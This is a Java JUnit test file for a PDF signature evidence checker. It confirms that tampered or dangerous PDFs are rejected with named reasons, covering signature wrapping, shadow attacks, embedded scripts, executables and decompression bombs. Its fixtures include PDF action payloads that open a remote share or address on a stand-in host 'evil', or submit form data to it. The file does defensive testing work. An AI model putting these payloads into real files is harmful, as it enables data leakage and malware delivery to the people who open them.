package vn.thidua.evidence.check;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import vn.thidua.evidence.Circumstances;
import vn.thidua.evidence.Circumstances.Demand;
import vn.thidua.evidence.FileFacts;
import vn.thidua.evidence.Judge;
import vn.thidua.evidence.Judgement;
import vn.thidua.evidence.Verdict;

/** Never "valid" without saying what was changed, never hanging, never out of memory: the table in docs/evidence.md, row by row. */
@Timeout(60)
class HostileFilesTest {
    private static final Instant RECEIVED = Instant.parse("2024-11-24T02:00:00Z");

    @TempDir
    static Path directory;

    static TrustAnchors anchors;

    @BeforeAll
    static void anchors() throws Exception {
        anchors = TrustAnchors.read(TrustWorld.anchors(directory));
    }

    static Stream<Arguments> changedAfterSigning() {
        return Stream.of(
                change("incremental update of a page's content", HostileFiles::contentReplaced, "trang 1 /Contents"),
                change("annotation added", HostileFiles::annotationAdded, "chú thích /Text bị thêm vào"),
                change("form filled in", HostileFiles::formFilled, "ô «diem» /V"),
                change("page added", HostileFiles::pageAdded, "số trang từ 3 thành 4"),
                change("page removed", HostileFiles::pageRemoved, "số trang từ 3 thành 2"),
                change("pages swapped", HostileFiles::pagesSwapped, "đổi thứ tự"),
                change("shadow content: hide", HostileFiles::shadowHide, "trang 1 /Contents"),
                change("shadow content: replace", HostileFiles::shadowReplace, "số trang từ 3 thành 1"),
                change("hidden object behind the signature", HostileFiles::hiddenObject, "đối tượng ẩn"),
                change("signed bytes changed", HostileFiles::digitChanged, "mã băm không khớp"),
                change("signature wrapping", HostileFiles::wrapped, "Trong khoảng không được ký"),
                change(
                        "padding behind the signature's value",
                        HostileFiles::paddingFilled,
                        "Trong khoảng không được ký"),
                change("byte range replaced", HostileFiles::rangeReplaced, "giữa một phiên bản"),
                change(
                        "contents removed",
                        HostileFiles::contentsRemoved,
                        "phạm vi|không được ký|Phần được ký|giá trị chữ ký"),
                change("rewritten as a whole", HostileFiles::rewrittenWhole, "Phần được ký|không được ký"),
                change(
                        "signature whose picture covers the page",
                        HostileFiles::coveringSignature,
                        "che phần lớn trang"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("changedAfterSigning")
    void aChangeAfterSigningIsInvalidAndNamed(String attack, Supplier<byte[]> file, String named) throws Exception {
        Judgement judgement = judge(file.get());

        assertThat(judgement.verdict()).as(judgement.toString()).isEqualTo(Verdict.INVALID);
        assertThat(String.join("\n", judgement.reasons())).containsPattern(named);
    }

    static Stream<Arguments> dangers() {
        return Stream.of(
                change("two documents in one file", HostileFiles::secondDocument, "tài liệu PDF thứ hai"),
                change("another format in front", HostileFiles::prefixed, "Trước phần đầu"),
                change("an archive behind", HostileFiles::zipAppended, "tệp nén"),
                change("script", HostileFiles::script, "JavaScript"),
                change("launch action", HostileFiles::launch, "mở chương trình"),
                change("XFA", HostileFiles::dynamicForm, "XFA"),
                change("program by name", () -> HostileFiles.program("a.exe", "x"), "chương trình chạy được"),
                change("program by content", () -> HostileFiles.program("a.txt", "MZ\u0090"), "chương trình chạy được"),
                change(
                        "page of another machine on opening",
                        () -> HostileFiles.opening("<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"),
                        "máy khác"),
                change(
                        "page of another file on opening",
                        () -> HostileFiles.opening("<</S/GoToR/F(x.pdf)/D[0/Fit]>>"),
                        "tự mở"),
                change(
                        "page of an attached file on opening",
                        () -> HostileFiles.opening("<</S/GoToE/T<</R/C/N(x)>>>>"),
                        "tự mở"),
                change(
                        "address on opening",
                        () -> HostileFiles.opening("<</S/URI/URI(http://evil.example/x)>>"),
                        "tự mở"),
                change(
                        "address behind another action",
                        () -> HostileFiles.turning("<</S/URI/URI(http://evil.example/x)>>"),
                        "tự mở"),
                change(
                        "form sent on opening",
                        () -> HostileFiles.opening("<</S/SubmitForm/F<</FS/URL/F(http://evil.example/x)>>>>"),
                        "gửi dữ liệu"),
                change(
                        "data fetched on opening",
                        () -> HostileFiles.opening("<</S/ImportData/F(x.fdf)>>"),
                        "nạp dữ liệu"),
                change(
                        "link to another machine",
                        () -> HostileFiles.linking("<</S/GoToR/F<</UF(/evil/share/x.pdf)>>/D[0/Fit]>>"),
                        "máy khác"),
                change(
                        "address of another machine",
                        () -> HostileFiles.linking("<</S/URI/URI(file://evil/share/x.pdf)>>"),
                        "máy khác"),
                change("content in another file", HostileFiles::contentElsewhere, "lấy từ tệp khác"),
                change("program in an attached archive", HostileFiles::packedProgram, "đính kèm tệp nén"),
                change("attached disk by name", () -> HostileFiles.program("a.iso. ", "x"), "ảnh đĩa"),
                change(
                        "attached disk by content",
                        () -> HostileFiles.program("a.dat", "\0".repeat(0x8001) + "CD001"),
                        "ảnh đĩa"),
                change(
                        "macros in an attached document",
                        () -> HostileFiles.program(
                                "a.docx",
                                OfficeFiles.word()
                                        .with("word/vbaProject.bin", "x")
                                        .text()),
                        "macro"),
                change("web page in a comment", HostileFiles::markup, "trang web"),
                change("encrypted", () -> HostileFiles.encrypted("secret"), "mật khẩu"),
                change("bomb in a page", () -> HostileFiles.bomb(100), "bung ra quá lớn"),
                change("bomb beyond any picture", () -> HostileFiles.bomb(600), "bung ra quá lớn"),
                change("bomb in a bomb", HostileFiles::bombInBomb, "bung ra quá lớn"),
                change("page tree loop", HostileFiles::pageTreeLoop, "vòng quanh"),
                change("parent loop", HostileFiles::parentLoop, "vòng quanh"),
                change("form field loop", HostileFiles::fieldLoop, "vòng quanh"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dangers")
    void aDangerousFileIsInvalidAndSaysWhy(String attack, Supplier<byte[]> file, String named) throws Exception {
        Judgement judgement = judge(file.get());

        assertThat(judgement.verdict()).as(judgement.toString()).isEqualTo(Verdict.INVALID);
        assertThat(String.join("\n", judgement.reasons())).contains(named);
    }

    @Test
    void aFormThatDrawsItselfComesToAnEnd() throws Exception {
        assertThat(judge(HostileFiles.drawingLoop()).verdict()).isEqualTo(Verdict.UNSIGNED);
    }

    @Test
    void endlessReferencesComeToAnEnd() throws Exception {
        try {
            assertThat(judge(HostileFiles.endlessReferences()).verdict().isValid())
                    .isFalse();
        } catch (Unreadable e) {
            assertThat(e).hasMessageContaining("không đọc được");
        }
    }

    @Test
    void fiftySignaturesAreEachJudged() throws Exception {
        byte[] file = HostileFiles.manySignatures(50);

        FileFacts facts = check(file);

        assertThat(facts.signatures()).hasSize(50).allMatch(s -> s.intact() && s.trusted());
        assertThat(facts.signatures().get(0).addedAfter()).hasSize(49);
    }

    @Test
    void tooManySignaturesAreRefused() throws Exception {
        Limits few = new Limits(Duration.ofSeconds(60), 1 << 26, 1 << 29, 1 << 30, 500_000, 2, 200);

        FileFacts facts = new EvidenceCheck(few, 1).check(HostileFiles.manySignatures(3), anchors, RECEIVED);

        assertThat(facts.dangers()).singleElement().asString().contains("quá nhiều chữ ký");
    }

    @Test
    void whatTakesTooLongIsLeftToPeople() throws Exception {
        Limits hasty = new Limits(Duration.ofMillis(1), 1 << 26, 1 << 29, 1 << 30, 500_000, 64, 200);

        FileFacts facts = new EvidenceCheck(hasty, 1).check(HostileFiles.manySignatures(5), anchors, RECEIVED);

        assertThat(facts.examined()).isFalse();
        assertThat(judge(facts).verdict()).isEqualTo(Verdict.NEEDS_RULING);
    }

    @Test
    void nothingAndNonsenseCannotBeRead() {
        assertThatThrownBy(() -> check(new byte[0]))
                .isInstanceOf(Unreadable.class)
                .hasMessageContaining("0 byte");
        assertThatThrownBy(() -> check("hello".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(Unreadable.class);
        assertThatThrownBy(() -> check("%PDF-1.7\nnonsense\n%%EOF".getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(Unreadable.class);
    }

    @Test
    void protectionWithoutPasswordIsNoHindrance() throws Exception {
        FileFacts facts = check(HostileFiles.encrypted(""));

        assertThat(facts.encrypted()).isTrue();
        assertThat(facts.dangers()).isEmpty();
    }

    @Test
    void anchorsAreReadAnewWhenTheyChange(@TempDir Path own) throws Exception {
        AnchorDirectory anchorDirectory = new AnchorDirectory(own);
        assertThat(anchorDirectory.current().certificates()).isEmpty();

        TrustWorld.anchors(own);

        assertThat(anchorDirectory.current().certificates()).hasSize(1);
        assertThat(anchorDirectory.current().lists()).hasSize(1);
        assertThat(anchorDirectory.current()).isSameAs(anchorDirectory.current());
    }

    private static Arguments change(String name, Supplier<byte[]> file, String named) {
        return arguments(name, file, named);
    }

    private static FileFacts check(byte[] file) throws Exception {
        return new EvidenceCheck(Limits.USUAL, 1).check(file, anchors, RECEIVED);
    }

    private static Judgement judge(byte[] file) throws Exception {
        return judge(check(file));
    }

    private static Judgement judge(FileFacts facts) {
        return Judge.judge(facts, new Circumstances(null, null, RECEIVED, null, null, Demand.SIGNED_ORIGINAL));
    }
}
